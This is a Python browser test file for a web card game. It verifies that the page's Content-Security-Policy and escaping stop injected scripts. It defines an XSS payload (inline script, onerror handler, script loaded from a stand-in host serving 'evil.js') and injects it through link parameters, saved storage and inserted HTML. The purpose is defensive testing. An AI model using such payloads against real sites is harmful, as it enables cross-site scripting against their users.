"""The page's Content-Security-Policy: scripts, styles, fetches and workers from its own
origin only; the table plays under it, and markup smuggled in through a link or a saved
value never runs a script."""
import json
import re
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]

# Every violation the browser reports, kept where the test can read it.
WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.__violations.push(
  [event.effectiveDirective, event.blockedURI, (event.sample || "").slice(0, 60)]));
"""
# A payload in every form a script could hide in: an inline script, an inline handler,
# a script from another origin. Each sets window.__ran if it runs.
PAYLOAD = ('<script>window.__ran = "script"</script>'
           '<img src="x" onerror="window.__ran = \'handler\'">'
           '<script src="http://198.51.100.7/evil.js"></script>')


def policy() -> dict[str, list[str]]:
    index = (ROOT / "index.html").read_text()
    content = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', index)
    assert content, "index.html sets no Content-Security-Policy"
    assert index.index("Content-Security-Policy") < index.index("<script")  # before any script
    return {name: values for name, *values in
            (part.split() for part in content.group(1).split(";") if part.strip())}


def test_policy_allows_only_the_pages_own_origin():
    rules = policy()
    assert rules["default-src"] == ["'self'"]
    assert rules["script-src"] == ["'self'", "'wasm-unsafe-eval'", "'unsafe-eval'"]
    for name in ("style-src", "connect-src", "worker-src", "img-src"):
        assert rules[name] == ["'self'"], name
    assert rules["object-src"] == ["'none'"] and rules["base-uri"] == ["'self'"]
    assert not any("unsafe-inline" in v or ":" in v or "*" in v for vs in rules.values() for v in vs)


def test_index_has_no_inline_script_or_handler():
    index = (ROOT / "index.html").read_text()
    for tag in re.findall(r"<script\b[^>]*>", index):
        assert " src=" in tag, f"inline script: {tag}"
    assert not re.search(r"\son[a-z]+=", index)


def test_table_plays_under_the_policy_without_a_violation(open_table):
    table = open_table("seed=71&pace=0", init_script=WATCH_VIOLATIONS)
    table.play(table.playable()[0])
    table.open_rules()
    table.page.keyboard.press("Escape")
    table.page.click('button[data-action="stats"]')
    table.page.wait_for_selector("#stats-panel[open]")
    assert table.page.evaluate("window.__violations") == []


def test_script_in_a_link_does_not_run(open_table):
    from urllib.parse import quote

    query = "&".join(f"{name}={quote(PAYLOAD)}" for name in ("lang", "deck", "record", "rules"))
    table = open_table("seed=72&pace=0&" + query, init_script=WATCH_VIOLATIONS)
    assert "<script>" in table.page.inner_text("#notice")  # noticed, quoted as text
    table.play(table.playable()[0])
    assert table.page.evaluate("window.__ran") is None


def test_script_in_a_saved_value_does_not_run(open_table):
    table = open_table("seed=73&pace=0")
    saved = json.loads(table.storage()["bummerl"])
    saved["settings"]["lang"] = PAYLOAD
    table.page.evaluate("doc => localStorage.setItem('bummerl', doc)", json.dumps(saved))
    table.context.add_init_script(WATCH_VIOLATIONS)
    table.page.goto(table.base_url + "?pace=0")
    table.wait_ready(60_000)
    table.play(table.playable()[0])
    assert table.page.evaluate("window.__ran") is None


def test_markup_that_reaches_the_page_cannot_run_a_script(open_table):
    """Were a value ever written into the page as HTML, the browser itself refuses what it
    carries: the policy, not only our escaping, stands between a crafted link and a script."""
    table = open_table("seed=74&pace=0", init_script=WATCH_VIOLATIONS)
    table.page.evaluate("html => document.querySelector('#help').insertAdjacentHTML('beforeend', html)",
                        PAYLOAD.replace("<script>", "<img>"))  # innerHTML never runs <script>
    table.page.evaluate("""() => {
      const inline = document.createElement("script");
      inline.textContent = "window.__ran = 'created script'";
      document.body.append(inline);
      const foreign = document.createElement("script");
      foreign.src = "http://198.51.100.7/evil.js";
      document.body.append(foreign);
    }""")
    table.page.wait_for_function("window.__violations.length >= 3")
    assert table.page.evaluate("window.__ran") is None
    refused = {directive for directive, *_ in table.page.evaluate("window.__violations")}
    assert refused <= {"script-src-attr", "script-src-elem"} and "script-src-elem" in refused
    assert table.outside == []  # the foreign script was not even requested
    # The browser logs each refusal (and the missing image "x") as a console error; the
    # image's may come after the refusals (its request fails later on a loaded machine).
    for _ in range(200):
        if len(table.errors) >= 4:
            break
        table.page.wait_for_timeout(50)
    logged, table.errors[:] = list(table.errors), []
    assert len(logged) == 4, logged
    assert sum("violates the following Content Security Policy" in line for line in logged) == 3
